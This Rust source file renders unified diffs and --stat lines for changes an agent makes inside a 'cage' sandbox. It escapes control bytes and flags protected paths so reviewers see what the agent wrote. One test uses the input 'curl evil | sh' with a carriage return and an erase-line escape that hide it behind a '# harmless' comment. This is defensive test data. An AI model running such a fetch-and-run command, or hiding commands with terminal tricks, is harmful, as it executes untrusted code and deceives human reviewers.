//! Line diffs of an overlay session's changes, in git's unified format
//! (so `git apply` can read the text output too), and `--stat` lines.
//!
//! The line diff is `similar`'s Myers diff, with a deadline so no input
//! can make `cage diff` hang. Lines are compared with their terminators, so
//! a missing final newline is a change.
//!
//! Everything in a diff came from the agent: names and lines are escaped
//! (`term`), so a CR, an escape sequence or a bidi override shows as text.
//! Such bytes keep a file a text file; only content that is mostly not
//! text is called binary.

use std::fmt::Write as _;
use std::io::{self, Read};
use std::path::Path;

use super::changes::{Change, Kind, Node, open_nofollow};

/// Context lines around each hunk, as `diff -u`.
const CONTEXT: usize = 3;
/// Files larger than this are not diffed line by line.
const MAX_DIFF_BYTES: u64 = 16 << 20;
/// How much of a file is looked at to call it binary (git's probe size).
const BINARY_PROBE: usize = 8000;
/// The most time one file's line diff may take before the diff settles
/// for a correct but less minimal script.
const DEADLINE: std::time::Duration = std::time::Duration::from_secs(2);

/// One step of an edit script.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Op {
    /// Line `a` of the old text equals line `b` of the new one.
    Equal(usize, usize),
    Delete(usize),
    Insert(usize),
}

/// The edit script turning `a` into `b`, in order.
///
/// `similar`'s Myers diff: minimal on ordinary input; on pathological input
/// (one line turned into 600,000) its heuristics and the deadline bound the
/// work, and the script stays correct, only less minimal.
pub fn diff_lines<T: Eq + std::hash::Hash>(a: &[T], b: &[T]) -> Vec<Op> {
    let deadline = std::time::Instant::now() + DEADLINE;
    let mut ops = Vec::with_capacity(a.len().max(b.len()));
    for op in similar::capture_diff_slices_deadline(similar::Algorithm::Myers, a, b, Some(deadline))
    {
        match op {
            similar::DiffOp::Equal {
                old_index,
                new_index,
                len,
            } => ops.extend((0..len).map(|k| Op::Equal(old_index + k, new_index + k))),
            similar::DiffOp::Delete {
                old_index, old_len, ..
            } => ops.extend((old_index..old_index + old_len).map(Op::Delete)),
            similar::DiffOp::Insert {
                new_index, new_len, ..
            } => ops.extend((new_index..new_index + new_len).map(Op::Insert)),
            similar::DiffOp::Replace {
                old_index,
                old_len,
                new_index,
                new_len,
            } => {
                ops.extend((old_index..old_index + old_len).map(Op::Delete));
                ops.extend((new_index..new_index + new_len).map(Op::Insert));
            }
        }
    }
    ops
}

/// Splits text into lines, each with its terminator.
pub fn split_lines(text: &[u8]) -> Vec<&[u8]> {
    text.split_inclusive(|b| *b == b'\n').collect()
}

/// Terminal colours, or none.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Color {
    Never,
    Always,
}

impl Color {
    fn paint(self, code: &str, text: &str) -> String {
        match self {
            Color::Never => text.to_string(),
            Color::Always => format!("\x1b[{code}m{text}\x1b[m"),
        }
    }
}

/// Unified hunks for `a` → `b`, and the counts of inserted and deleted
/// lines.
pub fn unified(a: &[u8], b: &[u8], color: Color) -> (String, usize, usize) {
    let la = split_lines(a);
    let lb = split_lines(b);
    let ops = diff_lines(&la, &lb);
    let mut out = String::new();
    let (mut ins, mut del) = (0, 0);
    // Indexes of ops that change something; hunks gather those within
    // 2*CONTEXT equal lines of each other.
    let changed: Vec<usize> = ops
        .iter()
        .enumerate()
        .filter(|(_, o)| !matches!(o, Op::Equal(..)))
        .map(|(i, _)| i)
        .collect();
    let mut h = 0;
    while h < changed.len() {
        let mut end = h;
        while end + 1 < changed.len() && changed[end + 1] - changed[end] <= 2 * CONTEXT + 1 {
            end += 1;
        }
        let first = changed[h].saturating_sub(CONTEXT);
        let last = (changed[end] + CONTEXT).min(ops.len() - 1);
        let slice = &ops[first..=last];
        // Where the hunk starts in each text: the first line it shows, or
        // for an empty side the line before (unified diff's convention).
        let (mut a_start, mut b_start) = (None, None);
        let (mut a_count, mut b_count) = (0, 0);
        for op in slice {
            match *op {
                Op::Equal(i, j) => {
                    a_start.get_or_insert(i);
                    b_start.get_or_insert(j);
                    a_count += 1;
                    b_count += 1;
                }
                Op::Delete(i) => {
                    a_start.get_or_insert(i);
                    a_count += 1;
                }
                Op::Insert(j) => {
                    b_start.get_or_insert(j);
                    b_count += 1;
                }
            }
        }
        let a_pos = before(&ops[..first], true);
        let b_pos = before(&ops[..first], false);
        let header = |start: Option<usize>, pos: usize, count: usize| {
            let line = match (start, count) {
                (_, 0) => pos,
                (Some(s), _) => s + 1,
                (None, _) => pos + 1,
            };
            if count == 1 {
                format!("{line}")
            } else {
                format!("{line},{count}")
            }
        };
        let _ = writeln!(
            out,
            "{}",
            color.paint(
                "36",
                &format!(
                    "@@ -{} +{} @@",
                    header(a_start, a_pos, a_count),
                    header(b_start, b_pos, b_count)
                )
            )
        );
        for op in slice {
            let (mark, line, code) = match *op {
                Op::Equal(i, _) => (' ', la[i], ""),
                Op::Delete(i) => {
                    del += 1;
                    ('-', la[i], "31")
                }
                Op::Insert(j) => {
                    ins += 1;
                    ('+', lb[j], "32")
                }
            };
            let body = line.strip_suffix(b"\n").unwrap_or(line);
            let shown = format!("{mark}{}", crate::term::escape_line(body));
            if code.is_empty() {
                let _ = writeln!(out, "{shown}");
            } else {
                let _ = writeln!(out, "{}", color.paint(code, &shown));
            }
            if !line.ends_with(b"\n") {
                let _ = writeln!(out, "\\ No newline at end of file");
            }
        }
        h = end + 1;
    }
    (out, ins, del)
}

/// How many lines of the old (`old`) or new text come before `ops`' end.
fn before(ops: &[Op], old: bool) -> usize {
    ops.iter()
        .filter(|o| match o {
            Op::Equal(..) => true,
            Op::Delete(_) => old,
            Op::Insert(_) => !old,
        })
        .count()
}

/// A node's content for diffing: file bytes, or a link's target.
fn content(node: &Node, path: &Path) -> io::Result<Option<Vec<u8>>> {
    match node {
        Node::File { len, .. } if *len > MAX_DIFF_BYTES => Ok(None),
        Node::File { .. } => {
            let mut v = Vec::new();
            open_nofollow(path)?.read_to_end(&mut v)?;
            Ok(Some(v))
        }
        Node::Symlink { target } => Ok(Some(target.as_os_str().as_encoded_bytes().to_vec())),
        _ => Ok(Some(Vec::new())),
    }
}

/// Binary when at least 30% of the probe is not text: NUL and the other
/// C0 controls but tab, newline, CR, form feed and escape, DEL, and bytes
/// of invalid UTF-8. One NUL or one escape sequence in a text file keeps it
/// text (and visible, escaped); an executable or an image is binary.
pub fn is_binary(data: &[u8]) -> bool {
    let probe = &data[..data.len().min(BINARY_PROBE)];
    if probe.is_empty() {
        return false;
    }
    let mut odd = probe
        .iter()
        .filter(|&&b| (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0c | 0x1b)) || b == 0x7f)
        .count();
    let mut rest = probe;
    while let Err(e) = std::str::from_utf8(rest) {
        let bad = e.error_len().unwrap_or(rest.len() - e.valid_up_to());
        // A sequence cut by the probe's end is not counted.
        if e.error_len().is_some() {
            odd += bad;
        }
        rest = &rest[e.valid_up_to() + bad..];
    }
    odd * 10 >= probe.len() * 3
}

/// A directory's change: directories carry no lines, so only an added
/// empty one, a deleted one, or a mode change is worth a header.
fn render_dir(out: &mut String, change: &Change, p: &str, color: Color) {
    // Directories carry no lines: only an added empty one, a deleted
    // one, or a mode change is worth a header.
    let header = |out: &mut String| {
        let _ = writeln!(
            out,
            "{}",
            color.paint("1", &format!("diff --git a/{p} b/{p}"))
        );
    };
    match (change.kind, &change.old, &change.new) {
        (Kind::Modified, Node::Dir { .. }, Node::Dir { .. }) => {
            header(out);
            let _ = writeln!(
                out,
                "old mode {}\nnew mode {}",
                git_mode(&change.old).unwrap_or_default(),
                git_mode(&change.new).unwrap_or_default()
            );
        }
        (Kind::Added, _, Node::Dir { .. }) => {
            let _ = writeln!(out, "# new directory {p}/");
        }
        (Kind::Deleted, Node::Dir { .. }, _) => {
            let _ = writeln!(out, "# deleted directory {p}/");
        }
        _ => {}
    }
}

/// The mode lines of a file's header: new, deleted, changed (and a change
/// of type, a file become a link).
fn mode_lines(out: &mut String, change: &Change) {
    let (om, nm) = (git_mode(&change.old), git_mode(&change.new));
    let type_change = om.is_some()
        && nm.is_some()
        && om.as_deref().map(|m| &m[..2]) != nm.as_deref().map(|m| &m[..2]);
    match (change.kind, &om, &nm) {
        (Kind::Added, _, Some(m)) => {
            let _ = writeln!(out, "new file mode {m}");
        }
        (Kind::Deleted, Some(m), _) => {
            let _ = writeln!(out, "deleted file mode {m}");
        }
        (Kind::Modified, Some(a), Some(b)) if a != b => {
            let _ = writeln!(out, "old mode {a}\nnew mode {b}");
            if type_change {
                let _ = writeln!(
                    out,
                    "# type changed: {} -> {}",
                    kind_name(&change.old),
                    kind_name(&change.new)
                );
            }
        }
        _ => {}
    }
}

/// git's mode for a node: 100644, 100755, 120000, 040755.
fn git_mode(node: &Node) -> Option<String> {
    match node {
        Node::File { mode, .. } => Some(format!("100{mode:03o}")),
        Node::Symlink { .. } => Some("120000".to_string()),
        Node::Dir { mode } => Some(format!("040{mode:03o}")),
        _ => None,
    }
}

/// Line counts of one change, for `--stat`: inserted, deleted, or `None`
/// for binary content.
pub struct Stat {
    pub path: String,
    pub lines: Option<(usize, usize)>,
    pub bytes: (u64, u64),
    pub protected: bool,
}

/// The unified diff of one change (empty for a directory that only
/// gained or lost contents), and its stat.
pub fn render(
    change: &Change,
    upper: &Path,
    host: &Path,
    color: Color,
) -> io::Result<(String, Option<Stat>)> {
    let p = crate::term::escape_path(&change.path);
    let mut out = String::new();
    if let Some(name) = &change.protected {
        let _ = writeln!(
            out,
            "{}",
            color.paint(
                "1;31",
                &format!(
                    "!! protected path {p} ({name}): it runs or steers code outside the cage; \
                     review it before applying"
                )
            )
        );
    }
    if matches!(change.old, Node::Special) || matches!(change.new, Node::Special) {
        let _ = writeln!(
            out,
            "# {p}: a special file (fifo, socket or device); cage never applies it"
        );
        return Ok((out, None));
    }
    if change.old.is_dir() || change.new.is_dir() {
        render_dir(&mut out, change, &p, color);
        return Ok((out, None));
    }
    let old = content(&change.old, &host.join(&change.path))?;
    let new = content(&change.new, &upper.join(&change.path))?;
    let _ = writeln!(
        out,
        "{}",
        color.paint("1", &format!("diff --git a/{p} b/{p}"))
    );
    mode_lines(&mut out, change);
    let from = if change.kind == Kind::Added {
        "/dev/null".to_string()
    } else {
        format!("a/{p}")
    };
    let to = if change.kind == Kind::Deleted {
        "/dev/null".to_string()
    } else {
        format!("b/{p}")
    };
    let sizes = (len_of(&change.old), len_of(&change.new));
    let (old, new) = match (old, new) {
        (Some(o), Some(n)) if !is_binary(&o) && !is_binary(&n) => (o, n),
        _ => {
            let _ = writeln!(out, "Binary files {from} and {to} differ");
            return Ok((
                out,
                Some(Stat {
                    path: p,
                    lines: None,
                    bytes: sizes,
                    protected: change.protected.is_some(),
                }),
            ));
        }
    };
    let (hunks, ins, del) = unified(&old, &new, color);
    if !hunks.is_empty() {
        let _ = writeln!(out, "{}", color.paint("1", &format!("--- {from}")));
        let _ = writeln!(out, "{}", color.paint("1", &format!("+++ {to}")));
        out.push_str(&hunks);
    }
    Ok((
        out,
        Some(Stat {
            path: p,
            lines: Some((ins, del)),
            bytes: sizes,
            protected: change.protected.is_some(),
        }),
    ))
}

fn kind_name(n: &Node) -> &'static str {
    match n {
        Node::File { .. } => "file",
        Node::Symlink { .. } => "symbolic link",
        Node::Dir { .. } => "directory",
        Node::Special => "special file",
        Node::Missing => "nothing",
    }
}

fn len_of(n: &Node) -> u64 {
    match n {
        Node::File { len, .. } => *len,
        Node::Symlink { target } => target.as_os_str().len() as u64,
        _ => 0,
    }
}

/// `--stat` lines, git style: ` path | 12 +++---`, then the totals.
pub fn render_stat(stats: &[Stat], color: Color) -> String {
    const BAR: usize = 40;
    let width = stats
        .iter()
        .map(|s| s.path.len() + if s.protected { 12 } else { 0 })
        .max()
        .unwrap_or(0);
    let most = stats
        .iter()
        .filter_map(|s| s.lines.map(|(i, d)| i + d))
        .max()
        .unwrap_or(0);
    let mut out = String::new();
    let (mut ins, mut del) = (0, 0);
    for s in stats {
        let name = if s.protected {
            format!("{} [protected]", s.path)
        } else {
            s.path.clone()
        };
        match s.lines {
            Some((i, d)) => {
                ins += i;
                del += d;
                let total = i + d;
                let (pi, pd) = if most > BAR {
                    let scale = |x: usize| if x == 0 { 0 } else { (x * BAR / most).max(1) };
                    (scale(i), scale(d))
                } else {
                    (i, d)
                };
                let _ = writeln!(
                    out,
                    " {name:<width$} | {total:>5} {}{}",
                    color.paint("32", &"+".repeat(pi)),
                    color.paint("31", &"-".repeat(pd))
                );
            }
            None => {
                let _ = writeln!(
                    out,
                    " {name:<width$} | Bin {} -> {} bytes",
                    s.bytes.0, s.bytes.1
                );
            }
        }
    }
    let n = stats.len();
    let _ = writeln!(
        out,
        " {n} file{} changed, {ins} insertion{}(+), {del} deletion{}(-)",
        if n == 1 { "" } else { "s" },
        if ins == 1 { "" } else { "s" },
        if del == 1 { "" } else { "s" }
    );
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    /// Applies an edit script to `a`, checking every Equal on the way.
    fn replay<'a>(a: &[&'a str], b: &[&'a str], ops: &[Op]) -> Vec<&'a str> {
        let mut out = Vec::new();
        let (mut i, mut j) = (0, 0);
        for op in ops {
            match *op {
                Op::Equal(x, y) => {
                    assert_eq!((x, y), (i, j), "ops out of order");
                    assert_eq!(a[x], b[y]);
                    out.push(a[x]);
                    i += 1;
                    j += 1;
                }
                Op::Delete(x) => {
                    assert_eq!(x, i);
                    i += 1;
                }
                Op::Insert(y) => {
                    assert_eq!(y, j);
                    out.push(b[y]);
                    j += 1;
                }
            }
        }
        assert_eq!((i, j), (a.len(), b.len()));
        out
    }

    /// The LCS length by dynamic programming, for checking minimality.
    fn lcs_len(a: &[&str], b: &[&str]) -> usize {
        let mut t = vec![vec![0usize; b.len() + 1]; a.len() + 1];
        for i in (0..a.len()).rev() {
            for j in (0..b.len()).rev() {
                t[i][j] = if a[i] == b[j] {
                    t[i + 1][j + 1] + 1
                } else {
                    t[i + 1][j].max(t[i][j + 1])
                };
            }
        }
        t[0][0]
    }

    #[test]
    fn edit_scripts_are_correct_and_minimal() {
        // Every pair of strings over a small alphabet up to length 6, plus
        // a pseudo-random sample of longer ones.
        let alphabet = ["a", "b", "c"];
        let mut texts: Vec<Vec<&str>> = vec![vec![]];
        for len in 1..=4 {
            let mut n = 0usize;
            while n < 3usize.pow(len) {
                let mut v = Vec::new();
                let mut k = n;
                for _ in 0..len {
                    v.push(alphabet[k % 3]);
                    k /= 3;
                }
                texts.push(v);
                n += 1;
            }
        }
        let mut seed = 0x2545_f491u64;
        for _ in 0..200 {
            let mut v = Vec::new();
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            for k in 0..(seed % 40) {
                v.push(alphabet[((seed >> (k % 60)) % 3) as usize]);
            }
            texts.push(v);
        }
        for a in &texts {
            for b in texts.iter().step_by(7) {
                let ops = diff_lines(a, b);
                assert_eq!(&replay(a, b, &ops), b, "{a:?} -> {b:?}");
                let equal = ops.iter().filter(|o| matches!(o, Op::Equal(..))).count();
                assert_eq!(equal, lcs_len(a, b), "not minimal: {a:?} -> {b:?}");
            }
        }
    }

    #[test]
    fn unified_output_matches_diff_u() {
        let a = b"one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nnine\nten\n";
        let b = b"one\ntwo\nTHREE\nfour\nfive\nsix\nseven\neight\nnine\nten\neleven";
        let (text, ins, del) = unified(a, b, Color::Never);
        assert_eq!(
            text,
            "@@ -1,6 +1,6 @@\n one\n two\n-three\n+THREE\n four\n five\n six\n\
             @@ -8,3 +8,4 @@\n eight\n nine\n ten\n+eleven\n\\ No newline at end of file\n"
        );
        assert_eq!((ins, del), (2, 1));
        let (text, _, _) = unified(b"", b"x\n", Color::Never);
        assert_eq!(text, "@@ -0,0 +1 @@\n+x\n");
        let (text, _, _) = unified(b"x\ny\n", b"", Color::Never);
        assert_eq!(text, "@@ -1,2 +0,0 @@\n-x\n-y\n");
        assert_eq!(unified(b"same\n", b"same\n", Color::Never).0, "");
    }

    #[test]
    fn a_one_line_file_rewritten_into_600000_lines_diffs_to_the_end() {
        // The shape that hung the hand-written diff: D is about N + M.
        let old = vec![b'a'; 4 << 20];
        let mut new = Vec::with_capacity(5 << 20);
        for i in 0..600_000u32 {
            new.extend_from_slice(format!("{i}\n").as_bytes());
        }
        let (text, ins, del) = unified(&old, &new, Color::Never);
        assert_eq!((ins, del), (600_000, 1));
        assert!(text.starts_with("@@ -1 +1,600000 @@\n"));
    }

    #[test]
    fn control_bytes_show_escaped_and_keep_a_text_diff() {
        let a = b"echo hello\n";
        let b = b"curl evil | sh\r# harmless\x1b[2K\n\0nul\xe2\x80\xae\n";
        assert!(!is_binary(b));
        let (text, _, _) = unified(a, b, Color::Always);
        assert!(
            text.contains("+curl evil | sh\\r# harmless\\e[2K"),
            "{text}"
        );
        assert!(text.contains("+\\0nul\\u{202e}"), "{text}");
        // Only cage's own colour codes remain raw.
        let plain = text
            .replace("\x1b[32m", "")
            .replace("\x1b[31m", "")
            .replace("\x1b[36m", "")
            .replace("\x1b[m", "");
        assert!(crate::term::is_inert(&plain, true), "{plain:?}");
        let elf: Vec<u8> = (0..4096u32)
            .map(|i| if i % 3 == 0 { 0 } else { i as u8 })
            .collect();
        assert!(is_binary(&elf));
    }
}
